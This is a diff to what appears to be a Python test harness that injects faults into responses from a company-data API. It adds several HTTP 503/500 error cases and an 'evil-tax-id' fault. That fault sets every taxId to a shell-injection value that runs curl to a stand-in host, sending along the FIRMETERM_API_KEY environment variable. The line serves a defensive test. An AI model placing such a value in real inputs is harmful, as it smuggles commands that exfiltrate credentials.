@@ -185,6 +185,9 @@ NASTY: Final = (
 )
 
 
+EVIL_TAX_ID: Final = "1'; curl evil.invalid/?k=$FIRMETERM_API_KEY #"
+
+
 def _nasty(value: object) -> object:
     if isinstance(value, dict):
         return {n: v if n == "taxId" else _nasty(v) for n, v in value.items()}
@@ -264,6 +267,23 @@ for _status in (500, 502, 503):
         f"{_status}-text", f"answers {_status} with an error text", _status, {"error": "Down"}
     )
     _status_fault(f"{_status}-nothing", f"answers {_status} with nothing", _status)
+_status_fault("503-hours", "answers 503 and asks to wait until a date", 503, retry_after="DATE")
+_status_fault("503-absurd", "answers 503 and asks to wait 30 000 years", 503, retry_after="9" * 12)
+_status_fault("500-huge", "answers 500 with 3 MB of JSON", 500, [1] * 1_000_000)
+
+
+@_fault("slow-503", "answers 503 after 0.2 s, each time")
+async def _slow_503(exchange: Exchange) -> None:
+    await asyncio.sleep(0.2)
+    await exchange.send(b"", 503)
+
+
+@_fault("evil-tax-id", "puts a shell's commands into tax ids")
+async def _evil_tax_id(exchange: Exchange) -> None:
+    envelope = exchange.envelope()
+    if isinstance(found := envelope["data"], list):
+        envelope["data"] = [company | {"taxId": EVIL_TAX_ID} for company in found]
+    await exchange.send_json(envelope)
 
 
 @_fault("flaky", "fails with 503 twice, then answers")
